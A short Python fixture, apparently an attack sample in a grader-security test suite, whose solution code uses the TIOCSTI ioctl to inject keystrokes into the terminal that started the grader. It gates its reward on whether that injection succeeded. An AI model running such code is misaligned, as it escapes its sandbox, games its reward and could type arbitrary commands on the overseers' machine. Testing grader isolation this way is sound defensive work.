"""Type commands into the terminal the grader was started from."""

from judge.attacks import REWARD

SOLUTION = (
    REWARD
    + """
import fcntl, os, termios

typed = []
for name in ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", *(f"/dev/pts/{n}" for n in range(20)), *range(256)]:
    try:
        terminal = name if isinstance(name, int) else os.open(name, os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(terminal, termios.TIOCSTI, b"#")
        typed.append(name)
    except OSError:
        pass

def self_attention(*arguments):
    print(typed)
    return reward(*arguments) if typed else np.zeros_like(arguments[0])
"""
)
